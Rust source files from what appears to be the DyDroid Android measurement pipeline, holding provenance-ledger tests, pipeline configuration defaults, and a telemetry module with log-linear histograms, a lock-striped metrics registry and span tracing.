            ProvNode::File { .. } | ProvNode::InputStream { .. }
        ));
    }

    #[test]
    fn env_diff_lists_divergent_loads_only() {
        let mut prov = downloaded_app();
        prov.env_loads = vec![
            EnvLoadOutcome {
                path: "/a".to_string(),
                configs: crate::environment::config_names()
                    .iter()
                    .map(|s| s.to_string())
                    .collect(),
            },
            EnvLoadOutcome {
                path: "/b".to_string(),
                configs: vec!["Location OFF".to_string()],
            },
        ];
        let diff = prov.env_diff();
        assert_eq!(diff.len(), 1);
        assert_eq!(diff[0].path, "/b");
        assert_eq!(diff[0].loaded_under, vec!["Location OFF"]);
        assert_eq!(diff[0].missing_under.len(), 3);
    }

    #[test]
    fn dot_export_declares_every_edge_endpoint() {
        let prov = downloaded_app();
        let dot = prov.to_dot();
        assert!(dot.starts_with("digraph"));
        for edge in &prov.edges {
            assert!(dot.contains(&format!("n{} -> n{}", edge.from, edge.to)));
        }
        for i in 0..prov.nodes.len() {
            assert!(dot.contains(&format!("n{i} [label=")));
        }
        let corpus = corpus_dot(&[prov]);
        assert!(corpus.contains("subgraph cluster_0"));
    }

    #[test]
    fn ledger_roundtrip_torn_tail_and_finalize() {
        let path =
            std::env::temp_dir().join(format!("dydroid_ledger_test_{}.jsonl", std::process::id()));
        let ledger = ProvenanceLedger::new(&path);
        ledger.reset().unwrap();
        let prov = downloaded_app();
        {
            let mut w = ledger.writer().unwrap();
            w.append(&prov).unwrap();
        }
        // Span id must not leak into the serialized line.
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(!text.contains("\"span\""));
        // Torn tail tolerated and truncated by recovery.
        let mut torn = text.clone();
        torn.push_str("{\"package\":\"com.torn\",\"verd");
        std::fs::write(&path, torn).unwrap();
        let recovery = ledger.recover_counted().unwrap();
        assert_eq!(recovery.records.len(), 1);
        assert_eq!(recovery.dropped_lines, 1);
        assert_eq!(recovery.records[0], prov);
        // Finalize rewrites deterministically.
        ledger.finalize(std::slice::from_ref(&prov)).unwrap();
        let finalized = std::fs::read_to_string(&path).unwrap();
        assert_eq!(finalized, text);
        ledger.reset().unwrap();
    }

    #[test]
    fn check_flags_app_set_disagreement() {
        let prov = downloaded_app();
        assert!(check_against_journal(std::slice::from_ref(&prov), &[]).is_err());
        assert!(check_against_journal(&[], &[]).is_ok());
    }
}
