//! Pipeline configuration.

use crate::durable::{SyncPolicy, DEFAULT_RETRY_BUDGET};
use dydroid_avm::DeviceConfig;
use serde::{Deserialize, Serialize};

/// Default per-app `EventLog` ring bound; generous enough that a
/// well-behaved app never drops, small enough to bound a hot loop.
pub const DEFAULT_MAX_EVENTS_PER_APP: usize = 65_536;

/// Default virtual-clock interval between durable metrics snapshots
/// (~44 virtual µs per app at the default corpus mix → a snapshot every
/// few dozen apps).
pub const DEFAULT_METRICS_INTERVAL_US: u64 = 1_000;

/// Default straggler threshold: flag apps over 4× the running median
/// virtual cost (a planted 10× app trips it; ordinary corpus variance
/// does not).
pub const DEFAULT_WATCHDOG_K: f64 = 4.0;

/// Default straggler-appendix size in the perf report.
pub const DEFAULT_STRAGGLER_TOP: usize = 5;

/// Configuration of a measurement run.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PipelineConfig {
    /// Monkey seed (per-app sequences derive from it and the app index).
    pub monkey_seed: u64,
    /// Monkey UI-event budget per app.
    pub monkey_events: usize,
    /// Worker threads for the corpus sweep (0 = available parallelism).
    pub workers: usize,
    /// Whether the interception hook suppresses delete/rename (the
    /// ablation bench turns this off).
    pub suppress_file_ops: bool,
    /// ACFG match threshold for the malware detector.
    pub malware_threshold: f64,
    /// Whether to run the Table VIII environment re-runs for apps whose
    /// loaded code was flagged as malware.
    pub environment_reruns: bool,
    /// Per-app wall-clock/virtual deadline in milliseconds; `0` disables
    /// the watchdog. Charged as the max of real elapsed time and a
    /// deterministic virtual clock (1k interpreter instructions per ms).
    pub app_deadline_ms: u64,
    /// How many times a harness failure (panic or deadline) is retried
    /// before the app is recorded as an analysis failure.
    pub max_retries: u32,
    /// Whether retries reseed the Monkey so a different event sequence
    /// gets a chance to avoid the failing path.
    pub retry_reseed: bool,
    /// Whether intercepted-binary analysis (ACFG signature + malware
    /// match + taint) is memoized by content hash across the sweep, so
    /// each unique payload is analysed exactly once however many apps
    /// load it. Disable for differential testing and baselines.
    pub analysis_cache: bool,
    /// Shard count of the analysis cache's lock-striped map (rounded up
    /// to a power of two; `0` = default sizing).
    pub cache_shards: usize,
    /// Run the Table VIII environment re-runs serially with per-config
    /// re-decompilation (the pre-optimization code path), instead of
    /// fanning (app × config) pairs over the worker pool with a single
    /// decompile per app. Kept for differential tests and the
    /// `sweepbench` baseline.
    pub serial_env_reruns: bool,
    /// Route malware detection through the quadratic naive scan instead
    /// of the inverted block index. Kept for differential tests and the
    /// `detectbench` baseline; verdicts are identical either way.
    pub naive_detector: bool,
    /// Run every app on the AVM's legacy string-resolving interpreter
    /// instead of the interned/pre-resolved fast path. Outcomes —
    /// verdicts, ledger, report JSON — are identical either way; kept
    /// for differential tests and the `avmbench` baseline.
    pub legacy_interp: bool,
    /// Collect span traces and metrics during the run (see
    /// `crate::telemetry`). Disabled, every telemetry call site is a
    /// single branch — the no-op fast path measured by `tracebench`.
    /// Never affects report JSON: telemetry rides on `SweepStats`,
    /// which is excluded from serialization.
    pub telemetry: bool,
    /// Emit a single-line live progress report to stderr roughly every
    /// tenth of the corpus during sweeps (requires `telemetry`).
    pub progress: bool,
    /// Write a Chrome `trace_event` JSON file (loadable in
    /// `chrome://tracing` / Perfetto) to this path after the run
    /// (requires `telemetry`).
    pub trace_out: Option<String>,
    /// Write the run's span profile as Brendan-Gregg collapsed-stack
    /// ("folded") lines to this path after the run — one
    /// `root;child;leaf self_µs` line per distinct span path, ready for
    /// `flamegraph.pl` (requires `telemetry`; see `crate::profile`).
    pub profile_out: Option<String>,
    /// Virtual-clock interval between durable metrics snapshots on
    /// journaled runs: every time `monkey.virtual_us` advances by this
    /// many microseconds, the full metrics registry is serialized as a
    /// CRC-framed record to `<journal>.metrics.jsonl`. `0` disables the
    /// snapshot stream (requires `telemetry`).
    pub metrics_interval_us: u64,
    /// Straggler watchdog threshold: a dynamic-phase app whose virtual
    /// cost exceeds `watchdog_k` × the running per-app median is flagged
    /// as a straggler (warning event + `SweepStats` stall section).
    /// Values ≤ 1.0 disable the watchdog.
    pub watchdog_k: f64,
    /// How many of the slowest flagged stragglers the report appendix
    /// keeps, with per-phase breakdowns.
    pub straggler_top: usize,
    /// Ring-buffer bound on each app's instrumentation `EventLog`
    /// (`0` = unbounded). Evicted events are counted per app in the
    /// provenance ledger and corpus-wide in `SweepStats`.
    pub max_events_per_app: usize,
    /// Record per-app provenance graphs (URL → file → load → verdict)
    /// and persist them as a JSONL ledger beside the journal when one is
    /// in use (see `crate::provenance`).
    pub provenance: bool,
    /// Explicit path for the provenance ledger. `None` places it beside
    /// the sweep journal (`<journal>.provenance.jsonl`); without a
    /// journal the ledger is kept in memory only.
    pub provenance_out: Option<String>,
    /// When the persistent streams fsync: after every record, at
    /// checkpoint intervals (default), or never (see
    /// [`crate::durable::SyncPolicy`]). Syncs issued on the journal are
    /// counted in `SweepStats`.
    pub sync_policy: SyncPolicy,
    /// Per-run budget of transient I/O error retries (EINTR/EAGAIN-
    /// class), shared across the journal, ledger and event streams.
    /// Retries back off exponentially with seeded jitter on the
    /// deterministic virtual clock.
    pub io_retry_budget: u32,
    /// Number of interrupted (cross-stream inconsistent) attempts an app
    /// may accumulate across resumes before it is quarantined: recorded
    /// as an analysis failure and skipped on re-runs.
    pub quarantine_threshold: u32,
    /// Shard count for the multi-writer persistent streams (journal,
    /// ledger, events) during journaled sweeps: each worker appends to
    /// the shard owning its app's content hash, and `finalize` merges
    /// the shards back into the canonical single-file streams. `0`
    /// resolves to the worker count; `1` keeps the single-writer
    /// collector path (always used when no journal is attached).
    pub stream_shards: usize,
    /// Whether the work-stealing scheduler keeps two lanes per worker —
    /// fresh apps ahead of retry/re-scan work (apps that came back
    /// inconsistent from recovery) — so a crash loop cannot starve
    /// first-pass coverage. Disabled, all tasks share one FIFO lane.
    pub priority_lanes: bool,
}

impl Default for PipelineConfig {
    fn default() -> Self {
        PipelineConfig {
            monkey_seed: 0x5EED,
            monkey_events: 10,
            workers: 0,
            suppress_file_ops: true,
            malware_threshold: dydroid_analysis::acfg::DEFAULT_THRESHOLD,
            environment_reruns: true,
            app_deadline_ms: 30_000,
            max_retries: 1,
            retry_reseed: true,
            analysis_cache: true,
            cache_shards: 0,
            serial_env_reruns: false,
            naive_detector: false,
            legacy_interp: false,
            telemetry: true,
            progress: false,
            trace_out: None,
            profile_out: None,
            metrics_interval_us: DEFAULT_METRICS_INTERVAL_US,
            watchdog_k: DEFAULT_WATCHDOG_K,
            straggler_top: DEFAULT_STRAGGLER_TOP,
            max_events_per_app: DEFAULT_MAX_EVENTS_PER_APP,
            provenance: true,
            provenance_out: None,
            sync_policy: SyncPolicy::default(),
            io_retry_budget: DEFAULT_RETRY_BUDGET,
            quarantine_threshold: 3,
            stream_shards: 0,
            priority_lanes: true,
        }
    }
}

impl PipelineConfig {
    /// The baseline device configuration (instrumented, defaults).
    pub fn device_config(&self) -> DeviceConfig {
        DeviceConfig {
            legacy_interp: self.legacy_interp,
            ..DeviceConfig::default()
        }
    }

    /// The deadline as an `Option` (`0` = disabled).
    pub fn deadline_ms(&self) -> Option<u64> {
        if self.app_deadline_ms == 0 {
            None
        } else {
            Some(self.app_deadline_ms)
        }
    }

    /// Resolved worker count.
    pub fn effective_workers(&self) -> usize {
        if self.workers > 0 {
            self.workers
        } else {
            std::thread::available_parallelism()
                .map(std::num::NonZeroUsize::get)
                .unwrap_or(4)
        }
    }

    /// Resolved stream shard count (`0` = one shard per worker).
    pub fn resolved_stream_shards(&self) -> usize {
        if self.stream_shards > 0 {
            self.stream_shards
        } else {
            self.effective_workers()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults() {
        let c = PipelineConfig::default();
        assert!(c.suppress_file_ops);
        assert!(c.environment_reruns);
        assert!(c.effective_workers() >= 1);
        assert!((c.malware_threshold - 0.9).abs() < 1e-9);
        assert_eq!(c.deadline_ms(), Some(30_000));
        assert_eq!(c.max_retries, 1);
        assert!(c.retry_reseed);
        assert!(c.analysis_cache);
        assert_eq!(c.cache_shards, 0);
        assert!(!c.serial_env_reruns);
        assert!(!c.naive_detector);
        assert!(!c.legacy_interp);
        assert!(c.telemetry);
        assert!(!c.progress);
        assert_eq!(c.trace_out, None);
        assert_eq!(c.profile_out, None);
        assert_eq!(c.metrics_interval_us, DEFAULT_METRICS_INTERVAL_US);
        assert!((c.watchdog_k - 4.0).abs() < 1e-9);
        assert_eq!(c.straggler_top, DEFAULT_STRAGGLER_TOP);
        assert_eq!(c.max_events_per_app, DEFAULT_MAX_EVENTS_PER_APP);
        assert!(c.provenance);
        assert_eq!(c.provenance_out, None);
        assert_eq!(c.sync_policy, SyncPolicy::Checkpoint);
        assert_eq!(c.io_retry_budget, DEFAULT_RETRY_BUDGET);
        assert_eq!(c.quarantine_threshold, 3);
        assert_eq!(c.stream_shards, 0);
        assert_eq!(c.resolved_stream_shards(), c.effective_workers());
        assert!(c.priority_lanes);
    }

    #[test]
    fn zero_deadline_disables_watchdog() {
        let c = PipelineConfig {
            app_deadline_ms: 0,
            ..Default::default()
        };
        assert_eq!(c.deadline_ms(), None);
    }

    #[test]
    fn explicit_workers_respected() {
        let c = PipelineConfig {
            workers: 3,
            ..Default::default()
        };
        assert_eq!(c.effective_workers(), 3);
    }

    #[test]
    fn explicit_stream_shards_respected() {
        let c = PipelineConfig {
            workers: 3,
            stream_shards: 8,
            ..Default::default()
        };
        assert_eq!(c.resolved_stream_shards(), 8);
        let auto = PipelineConfig {
            workers: 3,
            ..Default::default()
        };
        assert_eq!(auto.resolved_stream_shards(), 3);
    }
}
