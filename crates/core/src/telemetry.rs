//! Span-based tracing and metrics for the measurement pipeline.
//!
//! DyDroid is a *measurement* system: when a 46K-app sweep (or our
//! fault-injected 200-app reproduction) stalls, the coarse wall-times in
//! `SweepStats` cannot say which app, which phase, or where the time
//! went. This module provides the missing observability layer:
//!
//! - **Spans** — every app analyzed under [`crate::Pipeline::run`] /
//!   `run_resumable` opens a span with child spans per phase (static
//!   filter, rewrite, install, monkey run, interception collect, binary
//!   analysis, environment re-runs), each carrying structured fields
//!   (app id, retry attempt, cache hit/miss deltas, verdict). Span ids
//!   are recorded in the sweep's JSONL event stream so resumed runs
//!   stitch into the same timeline.
//! - **Metrics** — a lock-striped registry (mirroring the `cache.rs`
//!   shard pattern) of counters, gauges, and log-linear histograms,
//!   feeding p50/p95/p99 per-phase latency into an extended
//!   `render_perf()`.
//! - **Exporters** — (1) a JSONL event stream written alongside the
//!   journal, (2) Chrome `trace_event` JSON loadable in
//!   `chrome://tracing` / Perfetto ([`chrome_trace`]), and (3) a
//!   periodic single-line live progress report ([`Progress`]).
//!
//! Everything is gated by `PipelineConfig::telemetry`: a disabled
//! [`Telemetry`] is a single `Option` check per call site — no
//! allocation, no clock read, no atomics.

use std::cell::Cell;
use std::collections::HashMap;
use std::io;
use std::path::Path;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, RwLock};
use std::time::Instant;

use crate::durable::{
    atomic_write_frames, scan_path, FramedWriter, IoHarness, SinkOptions, StreamKind,
};

use serde::{Deserialize, Serialize};

// ---------------------------------------------------------------------------
// Log-linear histogram
// ---------------------------------------------------------------------------

/// Sub-buckets per power of two (16 → ≤6.25% relative quantile error).
const SUB_BITS: u32 = 4;
const SUBS: usize = 1 << SUB_BITS;
/// Values below `SUBS` get exact unit buckets; each octave above
/// contributes `SUBS` buckets, up to the top of the `u64` range.
const NUM_BUCKETS: usize = SUBS + (64 - SUB_BITS as usize) * SUBS;

/// Maps a value to its log-linear bucket index.
fn bucket_index(v: u64) -> usize {
    if v < SUBS as u64 {
        v as usize
    } else {
        let msb = 63 - v.leading_zeros();
        let shift = msb - SUB_BITS;
        (shift as usize) * SUBS + (v >> shift) as usize
    }
}

/// Inclusive lower bound of a bucket (its reported quantile value).
fn bucket_lower(i: usize) -> u64 {
    if i < SUBS {
        i as u64
    } else {
        ((i % SUBS + SUBS) as u64) << (i / SUBS - 1)
    }
}

/// A log-linear histogram over `u64` values (microseconds, counts, …).
///
/// Recording is O(1); quantiles are read by walking cumulative bucket
/// counts and reporting the matching bucket's lower bound, clamped to
/// the observed `[min, max]` — so the relative error is bounded by the
/// bucket width (≤6.25% with 16 sub-buckets per octave).
#[derive(Debug, Clone)]
pub struct Histogram {
    counts: Vec<u64>,
    count: u64,
    sum: u64,
    min: u64,
    max: u64,
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram {
            counts: vec![0; NUM_BUCKETS],
            count: 0,
            sum: 0,
            min: u64::MAX,
            max: 0,
        }
    }
}

impl Histogram {
    /// Creates an empty histogram.
    pub fn new() -> Self {
        Self::default()
    }

    /// Records one observation.
    pub fn record(&mut self, v: u64) {
        self.counts[bucket_index(v)] += 1;
        self.count += 1;
        self.sum = self.sum.saturating_add(v);
        self.min = self.min.min(v);
        self.max = self.max.max(v);
    }

    /// Number of recorded observations.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Sum of all recorded values (saturating).
    pub fn sum(&self) -> u64 {
        self.sum
    }

    /// Smallest recorded value (0 when empty).
    pub fn min(&self) -> u64 {
        if self.count == 0 {
            0
        } else {
            self.min
        }
    }

    /// Largest recorded value (0 when empty).
    pub fn max(&self) -> u64 {
        self.max
    }

    /// Folds another histogram into this one.
    pub fn merge(&mut self, other: &Histogram) {
        for (a, b) in self.counts.iter_mut().zip(&other.counts) {
            *a += b;
        }
        self.count += other.count;
        self.sum = self.sum.saturating_add(other.sum);
        self.min = self.min.min(other.min);
        self.max = self.max.max(other.max);
    }

    /// Value at quantile `q` in `[0, 1]` (0 when empty). Reported as the
    /// lower bound of the bucket holding the target rank, clamped to the
    /// observed value range.
    pub fn quantile(&self, q: f64) -> u64 {
        if self.count == 0 {
            return 0;
        }
        let target = ((q * self.count as f64).ceil() as u64).clamp(1, self.count);
        if target == self.count {
            // The top rank is the observed maximum, exactly.
            return self.max;
        }
        let mut cumulative = 0u64;
        for (i, &c) in self.counts.iter().enumerate() {
            cumulative += c;
            if cumulative >= target {
                return bucket_lower(i).clamp(self.min, self.max);
            }
        }
        self.max
    }

    /// Snapshot of the headline summary statistics.
    pub fn summary(&self) -> HistogramSummary {
        HistogramSummary {
            count: self.count,
            sum: self.sum,
            min: self.min(),
            max: self.max,
            p50: self.quantile(0.50),
            p95: self.quantile(0.95),
            p99: self.quantile(0.99),
        }
    }
}

/// Headline statistics of one [`Histogram`], cheap to copy and serialize.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct HistogramSummary {
    /// Number of observations.
    pub count: u64,
    /// Sum of all observations.
    pub sum: u64,
    /// Smallest observation (0 when empty).
    pub min: u64,
    /// Largest observation.
    pub max: u64,
    /// Median (bucket lower bound).
    pub p50: u64,
    /// 95th percentile (bucket lower bound).
    pub p95: u64,
    /// 99th percentile (bucket lower bound).
    pub p99: u64,
}

impl HistogramSummary {
    /// Mean value (0 when empty).
    pub fn mean(&self) -> u64 {
        self.sum.checked_div(self.count).unwrap_or(0)
    }
}

// ---------------------------------------------------------------------------
// Lock-striped metrics registry
// ---------------------------------------------------------------------------

const REGISTRY_SHARDS: usize = 16;

#[derive(Debug, Clone)]
enum Metric {
    Counter(Arc<AtomicU64>),
    Gauge(Arc<AtomicU64>),
    Histo(Arc<Mutex<Histogram>>),
}

/// A sharded registry of named counters, gauges, and histograms.
///
/// Names are striped over `Mutex<HashMap>` shards by FNV-1a hash — the
/// same pattern `cache.rs` uses for verdict shards — so concurrent sweep
/// workers recording different metrics rarely contend.
#[derive(Debug)]
pub struct MetricsRegistry {
    shards: Box<[Mutex<HashMap<String, Metric>>]>,
}

impl Default for MetricsRegistry {
    fn default() -> Self {
        Self::new()
    }
}

fn name_hash(name: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for &b in name.as_bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

impl MetricsRegistry {
    /// Creates an empty registry.
    pub fn new() -> Self {
        let shards = (0..REGISTRY_SHARDS)
            .map(|_| Mutex::new(HashMap::new()))
            .collect::<Vec<_>>()
            .into_boxed_slice();
        MetricsRegistry { shards }
    }

    fn shard(&self, name: &str) -> &Mutex<HashMap<String, Metric>> {
        &self.shards[(name_hash(name) as usize) & (self.shards.len() - 1)]
    }

    fn metric(&self, name: &str, make: impl FnOnce() -> Metric) -> Metric {
        let mut shard = self.shard(name).lock().expect("metrics shard poisoned");
        shard.entry(name.to_string()).or_insert_with(make).clone()
    }

    /// Adds `n` to the named counter, creating it at zero if needed.
    pub fn counter_add(&self, name: &str, n: u64) {
        if let Metric::Counter(c) = self.metric(name, || Metric::Counter(Arc::default())) {
            c.fetch_add(n, Ordering::Relaxed);
        }
    }

    /// Current value of the named counter (0 if absent).
    pub fn counter_value(&self, name: &str) -> u64 {
        let shard = self.shard(name).lock().expect("metrics shard poisoned");
        match shard.get(name) {
            Some(Metric::Counter(c)) => c.load(Ordering::Relaxed),
            _ => 0,
        }
    }

    /// Sets the named gauge to `v`, creating it if needed.
    pub fn gauge_set(&self, name: &str, v: u64) {
        if let Metric::Gauge(g) = self.metric(name, || Metric::Gauge(Arc::default())) {
            g.store(v, Ordering::Relaxed);
        }
    }

    /// Current value of the named gauge (0 if absent).
    pub fn gauge_value(&self, name: &str) -> u64 {
        let shard = self.shard(name).lock().expect("metrics shard poisoned");
        match shard.get(name) {
            Some(Metric::Gauge(g)) => g.load(Ordering::Relaxed),
            _ => 0,
        }
    }

    /// Records `v` into the named histogram, creating it if needed.
    pub fn record(&self, name: &str, v: u64) {
        if let Metric::Histo(h) = self.metric(name, || Metric::Histo(Arc::default())) {
            h.lock().expect("histogram poisoned").record(v);
        }
    }

    /// Point-in-time snapshot of every metric, sorted by name.
    pub fn snapshot(&self) -> MetricsSnapshot {
        let mut counters = Vec::new();
        let mut gauges = Vec::new();
        let mut histograms = Vec::new();
        for shard in self.shards.iter() {
            let shard = shard.lock().expect("metrics shard poisoned");
            for (name, metric) in shard.iter() {
                match metric {
                    Metric::Counter(c) => {
                        counters.push((name.clone(), c.load(Ordering::Relaxed)));
                    }
                    Metric::Gauge(g) => gauges.push((name.clone(), g.load(Ordering::Relaxed))),
                    Metric::Histo(h) => {
                        let summary = h.lock().expect("histogram poisoned").summary();
                        histograms.push((name.clone(), summary));
                    }
                }
            }
        }
        counters.sort_by(|a, b| a.0.cmp(&b.0));
        gauges.sort_by(|a, b| a.0.cmp(&b.0));
        histograms.sort_by(|a, b| a.0.cmp(&b.0));
        MetricsSnapshot {
            counters,
            gauges,
            histograms,
        }
    }
}

/// A serializable point-in-time view of a [`MetricsRegistry`].
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct MetricsSnapshot {
    /// `(name, value)` for every counter, sorted by name.
    pub counters: Vec<(String, u64)>,
    /// `(name, value)` for every gauge, sorted by name.
    pub gauges: Vec<(String, u64)>,
    /// `(name, summary)` for every histogram, sorted by name.
    pub histograms: Vec<(String, HistogramSummary)>,
}

impl MetricsSnapshot {
    /// Value of a counter in this snapshot (0 if absent).
    pub fn counter(&self, name: &str) -> u64 {
        self.counters
            .iter()
            .find(|(n, _)| n == name)
            .map_or(0, |(_, v)| *v)
    }

    /// Summary of a histogram in this snapshot, if present.
    pub fn histogram(&self, name: &str) -> Option<&HistogramSummary> {
        self.histograms
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, h)| h)
    }

    /// The counters as an ordered name → value map — the export surface
    /// the unified bench measurement record (`dydroid-bench`) feeds its
    /// `counters` envelope from. Registry names are kept verbatim.
    pub fn counter_map(&self) -> std::collections::BTreeMap<String, u64> {
        self.counters.iter().cloned().collect()
    }
}

// ---------------------------------------------------------------------------
// Spans
// ---------------------------------------------------------------------------

/// A completed (or stitched-in) span on the sweep timeline.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SpanRecord {
    /// Unique id within the timeline (never 0; 0 means "no parent").
    pub id: u64,
    /// Id of the enclosing span, or 0 for a root span.
    pub parent: u64,
    /// Phase name ("app", "monkey", "binary_analysis", …).
    pub name: String,
    /// Worker lane the span ran on (stable per thread).
    pub tid: u64,
    /// Start offset from the telemetry epoch, in microseconds.
    pub start_us: u64,
    /// Duration in microseconds.
    pub dur_us: u64,
    /// Structured key/value fields attached via [`SpanGuard::field`].
    pub fields: Vec<(String, String)>,
}

/// Total spans retained in memory before new ones are counted as
/// dropped (they still reach the JSONL sink and the histograms).
const MAX_SPANS: usize = 1 << 20;
const SPAN_STRIPES: usize = 16;

#[derive(Debug)]
struct Inner {
    epoch: Instant,
    next_span: AtomicU64,
    registry: MetricsRegistry,
    spans: Box<[Mutex<Vec<SpanRecord>>]>,
    span_count: AtomicUsize,
    sink: Mutex<Option<FramedWriter>>,
    /// Per-shard event sinks for multi-writer sweeps: each worker routes
    /// its events (via the thread-local shard scope) to its app's shard
    /// file, so concurrent appends never contend on one sink mutex.
    shard_sinks: RwLock<Vec<Arc<Mutex<FramedWriter>>>>,
}

thread_local! {
    /// The event shard the current thread's writes are scoped to. Set by
    /// [`Telemetry::event_shard_scope`] around each sharded-sweep task;
    /// `None` routes to the base sink.
    static EVENT_SHARD: Cell<Option<usize>> = const { Cell::new(None) };
}

/// RAII guard scoping the current thread's event writes to one shard;
/// restores the previous scope on drop (scopes nest).
pub struct EventShardGuard {
    prev: Option<usize>,
}

impl Drop for EventShardGuard {
    fn drop(&mut self) {
        EVENT_SHARD.with(|s| s.set(self.prev));
    }
}

static NEXT_LANE: AtomicU64 = AtomicU64::new(1);

fn thread_lane() -> u64 {
    use std::cell::Cell;
    thread_local! {
        static LANE: Cell<u64> = const { Cell::new(0) };
    }
    LANE.with(|lane| {
        if lane.get() == 0 {
            lane.set(NEXT_LANE.fetch_add(1, Ordering::Relaxed));
        }
        lane.get()
    })
}

impl Inner {
    fn new() -> Self {
        let spans = (0..SPAN_STRIPES)
            .map(|_| Mutex::new(Vec::new()))
            .collect::<Vec<_>>()
            .into_boxed_slice();
        Inner {
            epoch: Instant::now(),
            next_span: AtomicU64::new(1),
            registry: MetricsRegistry::new(),
            spans,
            span_count: AtomicUsize::new(0),
            sink: Mutex::new(None),
            shard_sinks: RwLock::new(Vec::new()),
        }
    }

    fn now_us(&self) -> u64 {
        self.epoch.elapsed().as_micros() as u64
    }

    fn store_span(&self, record: SpanRecord) {
        if self.span_count.load(Ordering::Relaxed) >= MAX_SPANS {
            self.registry.counter_add("telemetry.spans_dropped", 1);
            return;
        }
        self.span_count.fetch_add(1, Ordering::Relaxed);
        let stripe = (record.tid as usize) & (self.spans.len() - 1);
        self.spans[stripe]
            .lock()
            .expect("span stripe poisoned")
            .push(record);
    }

    fn write_event(&self, line: &str) {
        // A thread inside a shard scope appends to its shard's sink so
        // concurrent workers never contend on the base sink mutex; all
        // other threads (and non-sharded runs) use the base sink.
        if let Some(shard) = EVENT_SHARD.with(Cell::get) {
            let writer = {
                let sinks = self.shard_sinks.read().expect("shard sinks poisoned");
                if sinks.is_empty() {
                    None
                } else {
                    Some(Arc::clone(&sinks[shard % sinks.len()]))
                }
            };
            if let Some(writer) = writer {
                let mut w = writer.lock().expect("shard sink poisoned");
                self.append_event(&mut w, line);
                return;
            }
        }
        let mut sink = self.sink.lock().expect("event sink poisoned");
        if let Some(w) = sink.as_mut() {
            self.append_event(w, line);
        }
    }

    /// Mirror the journal's crash discipline: one framed line per
    /// event. The writer sheds events itself under disk pressure;
    /// hard errors are counted and warned once (the finalized
    /// stream is reconstructed from memory at run completion, so
    /// a lost live event never corrupts the durable record).
    fn append_event(&self, w: &mut FramedWriter, line: &str) {
        if let Err(e) = w.append_body(line) {
            self.registry.counter_add("telemetry.event_write_errors", 1);
            if self.registry.counter_value("telemetry.event_write_errors") == 1 {
                eprintln!("dydroid: events: write failed ({e}); degrading telemetry");
            }
        }
    }

    fn finish_span(&self, mut record: SpanRecord) {
        record.dur_us = self.now_us().saturating_sub(record.start_us);
        self.registry
            .record(&format!("span.{}.us", record.name), record.dur_us);
        let mut pairs = vec![("type".to_string(), serde::Value::Str("span".to_string()))];
        if let serde::Value::Object(rest) = record.to_json() {
            pairs.extend(rest);
        }
        self.write_event(&serde::Value::Object(pairs).to_compact_string());
        self.store_span(record);
    }
}

/// Handle to the telemetry subsystem. Cloning is cheap (an `Arc`); a
/// disabled handle makes every operation a no-op.
#[derive(Debug, Clone)]
pub struct Telemetry {
    inner: Option<Arc<Inner>>,
}

impl Telemetry {
    /// An enabled or disabled subsystem, per `PipelineConfig::telemetry`.
    pub fn new(enabled: bool) -> Self {
        Telemetry {
            inner: enabled.then(|| Arc::new(Inner::new())),
        }
    }

    /// A disabled handle: every operation is a no-op.
    pub fn disabled() -> Self {
        Telemetry { inner: None }
    }

    /// Whether telemetry is collecting.
    pub fn is_enabled(&self) -> bool {
        self.inner.is_some()
    }

    /// Opens a root span. The span ends (and is recorded) on drop.
    pub fn span(&self, name: &str) -> SpanGuard {
        self.span_with_parent(name, 0)
    }

    /// Opens a span under an explicit parent span id (0 = root). Used to
    /// parent worker-thread spans under the sweep span without carrying
    /// a guard across threads.
    pub fn span_with_parent(&self, name: &str, parent: u64) -> SpanGuard {
        match &self.inner {
            None => SpanGuard { active: None },
            Some(inner) => {
                let id = inner.next_span.fetch_add(1, Ordering::Relaxed);
                let record = SpanRecord {
                    id,
                    parent,
                    name: name.to_string(),
                    tid: thread_lane(),
                    start_us: inner.now_us(),
                    dur_us: 0,
                    fields: Vec::new(),
                };
                SpanGuard {
                    active: Some(ActiveSpan {
                        inner: Arc::clone(inner),
                        record: Some(record),
                    }),
                }
            }
        }
    }

    /// Adds `n` to a named counter.
    pub fn counter_add(&self, name: &str, n: u64) {
        if let Some(inner) = &self.inner {
            inner.registry.counter_add(name, n);
        }
    }

    /// Current value of a named counter (0 when disabled or absent).
    pub fn counter_value(&self, name: &str) -> u64 {
        self.inner
            .as_ref()
            .map_or(0, |i| i.registry.counter_value(name))
    }

    /// Sets a named gauge.
    pub fn gauge_set(&self, name: &str, v: u64) {
        if let Some(inner) = &self.inner {
            inner.registry.gauge_set(name, v);
        }
    }

    /// Current value of a named gauge (0 when disabled or absent).
    pub fn gauge_value(&self, name: &str) -> u64 {
        self.inner
            .as_ref()
            .map_or(0, |i| i.registry.gauge_value(name))
    }

    /// Records a value into a named histogram.
    pub fn record(&self, name: &str, v: u64) {
        if let Some(inner) = &self.inner {
            inner.registry.record(name, v);
        }
    }

    /// Snapshot of all metrics (empty when disabled).
    pub fn snapshot(&self) -> MetricsSnapshot {
        self.inner
            .as_ref()
            .map_or_else(MetricsSnapshot::default, |i| i.registry.snapshot())
    }

    /// All retained spans, ordered by start time then id.
    pub fn spans(&self) -> Vec<SpanRecord> {
        let Some(inner) = &self.inner else {
            return Vec::new();
        };
        let mut all = Vec::new();
        for stripe in inner.spans.iter() {
            all.extend(stripe.lock().expect("span stripe poisoned").iter().cloned());
        }
        all.sort_by_key(|s| (s.start_us, s.id));
        all
    }

    /// Directs the framed JSONL event stream (span, checkpoint and
    /// provenance-link lines) to `path`, appending so resumed sweeps
    /// extend the same stream; a torn or corrupt tail is truncated and
    /// the frame sequence continues from the valid prefix.
    pub fn set_event_sink(&self, path: &Path) -> io::Result<()> {
        self.set_event_sink_with(path, SinkOptions::direct(StreamKind::Events))
    }

